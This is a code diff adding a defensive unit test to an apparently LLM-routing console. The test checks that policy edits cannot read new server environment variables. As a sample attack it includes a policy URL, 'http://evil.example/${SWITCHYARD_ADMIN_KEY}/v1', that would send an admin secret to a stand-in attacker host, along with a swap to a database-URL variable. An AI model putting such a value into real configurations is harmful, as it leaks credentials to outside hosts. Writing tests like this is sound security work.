@@ -5,6 +5,7 @@ from __future__ import annotations
 import os
 import stat
 from pathlib import Path
+from typing import Any
 
 from router.console.policy_edit import _write_atomically
 
@@ -29,3 +30,32 @@ def test_rewrite_through_a_symlink_writes_its_target(tmp_path: Path) -> None:
     _write_atomically(link, "new")
     assert link.is_symlink() and os.readlink(link) == str(target)
     assert target.read_text() == "new"
+
+
+def test_the_console_cannot_make_the_policy_read_new_environment_variables(tmp_path: Path) -> None:
+    """A stolen console session must not turn a policy edit into a read of the server's environment:
+    a tier keyed by another variable, or a `${VAR}` in a URL, sends that variable to whatever host
+    the tier names. Variables the file already names stay usable."""
+    import asyncio
+
+    from router.console.policy_edit import apply_text
+
+    base = ("version: 1\ntiers:\n  paid:\n    engine: openai\n    model: paid\n    base_url: http://127.0.0.1:9/v1\n"
+            "    api_key_env: PROVIDER_KEY\n")
+    policy = tmp_path / "policy.yaml"
+    policy.write_text(base)
+
+    class Reloader:
+        path = policy
+        reloads = 0
+
+        async def reload(self) -> Any:
+            Reloader.reloads += 1
+            raise AssertionError("a refused edit must not reach the reload")
+
+    for sneaky in (base.replace("PROVIDER_KEY", "SWITCHYARD_DATABASE_URL"),
+                   base.replace("http://127.0.0.1:9/v1", "http://evil.example/${SWITCHYARD_ADMIN_KEY}/v1")):
+        outcome = asyncio.run(apply_text(Reloader(), sneaky))
+        assert outcome["reloaded"] is False and "SWITCHYARD_" in outcome["issues"][0]["message"]
+        assert policy.read_text() == base
+    assert Reloader.reloads == 0
